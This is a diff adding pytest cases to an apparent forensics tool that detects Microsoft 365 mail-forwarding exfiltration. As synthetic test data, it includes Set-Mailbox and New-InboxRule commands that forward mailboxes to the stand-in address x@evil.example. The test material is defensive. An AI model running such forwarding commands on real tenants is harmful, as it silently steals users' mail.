@@ -9,7 +9,8 @@ from xml.sax.saxutils import escape
 
 import pytest
 from tests.scope.office import DAYS, FOREIGN, NETWORK, PEOPLE, START, facts, log_of, reasoned, visits, work
-from tests.scope.staged import iis_place, security_log, stage, text_log
+from tests.scope.staged import iis_place, security_log, stage, text_log, ual_json
+from tests.scope.test_scope_silences import act
 
 from dwell.answers.assemble import assemble
 from dwell.model.claims import EXPOSED, Grade
@@ -174,6 +175,49 @@ def test_mail_sent_on_to_where_his_acts_send_it_is_his(his: int, exposed: set[st
     rule = f'-Mailbox "{PEOPLE[9]}" -Name "." -ForwardTo "X@evil.example"'
     case = _office(tmp_path, _readers(range(20, 44, 3)), [*ran, (_at(9, 15), "New-InboxRule", rule, "gov/Users/adm")])
     assert {one.mailbox for one in case.exposed} == {*STOLEN, *exposed}
+
+
+@pytest.mark.parametrize(("each", "intrusions"), [(2, 1), (1, 2)])
+def test_two_intrusions_that_send_mail_on_to_one_address_are_one(each: int, intrusions: int, tmp_path: Path) -> None:
+    other, agent = "100.99.7", "Other/3"
+    groups = {NETWORK: (FOREIGN, PEOPLE[:4]), other: (agent, PEOPLE[10:14])}
+    rows = [
+        row
+        for network, (tool, people) in groups.items()
+        for one in people
+        for row in visits(one, f"{network}.14", tool, range(20, 44, 3), hour=3)
+    ]
+    told = '-ForwardingSmtpAddress "smtp:x@evil.example"'
+    ran = [
+        (_at(20, 3, 60), "Set-Mailbox", f'-Identity "{one}" {told}', f"gov/Users/{one}")
+        for _, people in groups.values()
+        for one in people[:each]
+    ]
+    case = _office(tmp_path, rows, ran)
+    assert [one.id for one in case.held] == [f"I{place}" for place in range(1, intrusions + 1)]
+    assert {one.mailbox for one in case.exposed} == {*PEOPLE[:4], *PEOPLE[10:14]}
+    if intrusions == 1:
+        (held,) = case.held
+        assert len(held.clients) == 2
+        assert any("send mail on to smtp:x@evil.example" in one for one in held.links)
+        assert len(held.takings) == len({one.grounds for one in held.takings}) == 2 * each
+
+
+@pytest.mark.parametrize(
+    ("operation", "told", "mailbox"),
+    [
+        ("Set-Mailbox", {"Identity": "otto", "ForwardingSmtpAddress": "smtp:x@evil.example"}, "otto"),
+        ("New-InboxRule", {"Name": ".", "ForwardTo": "x@evil.example"}, "ines@gov.example"),
+    ],
+)
+def test_what_the_tenant_sends_on_is_taken_too(
+    operation: str, told: dict[str, str], mailbox: str, tmp_path: Path
+) -> None:
+    record = act("2021-01-10 00:00:00", operation, "otto", **told) | {"UserId": "ines@gov.example"}
+    staged = stage(tmp_path, {"UAL.json": ual_json([record])})
+    (one,) = takings_of(staged.archive, lambda text: text or None)
+    assert (one.mailbox, one.host, one.account) == (mailbox, "M365", "ines@gov.example")
+    assert one.kind is TakingKind.FORWARDING
 
 
 def _tried(people: Sequence[str], *, day: int = 19, let_in: Sequence[str] = ()) -> list[dict[str, object]]:
